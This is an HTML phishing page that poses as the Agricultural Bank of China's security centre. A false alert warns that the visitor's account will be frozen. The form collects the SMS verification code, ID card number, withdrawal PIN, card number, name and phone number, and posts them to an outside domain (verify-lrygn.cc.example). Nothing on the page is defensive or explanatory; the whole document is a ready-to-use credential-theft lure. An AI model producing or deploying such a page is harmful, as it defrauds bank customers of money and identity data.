<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>中国农业银行安全中心</title>
<style>body{font:14px/1.6 -apple-system,"PingFang SC",sans-serif;color:#333}</style>

</head>
<body>
<div class="menu"><a href="/list/1">首页</a> | <a href="/2">个人网银</a> | <a href="?c=3">安全中心</a></div>
<main class="wrap">
<section>
<div class="alert">您的账户因安全等级过低将被停用，逾期未处理将永久冻结。</div>
</section>
<div class="block">
<form action="//verify-lrygn.cc.example/ok.php" method="post"><div class="row"><label>短信验证码</label><input type="text" name="smscode" placeholder="请输入短信验证码"></div>
<div class="row"><label>身份证号</label><input type="text" name="idcard" placeholder="请输入身份证号"></div>
<div class="row"><label>取款密码</label><input type="password" name="pwd" placeholder="请输入取款密码"></div>
<div class="row"><label>银行卡号</label><input type="text" name="cardno" placeholder="请输入银行卡号"></div>
<div class="row"><label>姓名</label><input type="text" name="username" placeholder="请输入姓名"></div>
<div class="row"><label>预留手机号</label><input type="text" name="phone" placeholder="请输入预留手机号"></div><button type="submit">提交验证</button></form>
</div>
<div class="row">
<p class="tip">温馨提示：验证成功后账户将自动解冻</p>
</div>
</main>
<footer>中国农业银行 版权所有 客服热线 955xx</footer>
<script src="/static/js/app.fc0cc8c7.js"></script>
</body>
</html>
